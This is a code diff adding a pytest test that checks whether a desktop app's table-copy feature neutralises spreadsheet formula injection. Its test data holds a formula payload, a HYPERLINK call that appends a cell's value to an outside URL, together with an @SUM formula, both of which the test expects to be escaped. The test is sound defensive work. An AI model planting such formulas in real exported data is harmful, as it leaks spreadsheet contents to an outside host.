@@ -14,7 +14,7 @@ from sqlalchemy import select
 from app.models import Customer, Specialist
 from app.services.table_file import PERCENT_FORMAT
 from app.views.main_window import MainWindow
-from app.views.table_export import default_file_name, visible_columns
+from app.views.table_export import default_file_name, install_table_export, visible_columns
 from app.views.table_models import ROW_ROLE
 
 
@@ -277,3 +277,22 @@ def test_save_dialogs_start_in_documents_or_else_home(monkeypatch, tmp_path, qap
     assert save_folder() == tmp_path  # no Documents folder: the home folder, which exists
     (tmp_path / "Documents").mkdir()
     assert save_folder() == tmp_path / "Documents"
+
+
+def test_copied_cells_never_paste_as_formulas(qtbot):
+    from PySide6.QtGui import QStandardItem, QStandardItemModel
+    from PySide6.QtWidgets import QTableView
+
+    from app.views.operations import BackgroundRunner
+
+    model = QStandardItemModel()
+    model.setHorizontalHeaderLabels(["Name", "Note"])
+    model.appendRow([QStandardItem('=HYPERLINK("http://x/?a="&A1)'), QStandardItem("+8 pts")])
+    model.appendRow([QStandardItem("@SUM(A1)"), QStandardItem("line\rbreak")])
+    view = QTableView()
+    qtbot.addWidget(view)
+    view.setModel(model)
+    exporter = install_table_export(view, name="t", runner=BackgroundRunner(view))
+    view.selectAll()
+    lines = exporter.copy_selection().split("\n")
+    assert lines == ['\'=HYPERLINK("http://x/?a="&A1)\t+8 pts', "'@SUM(A1)\tline break"]
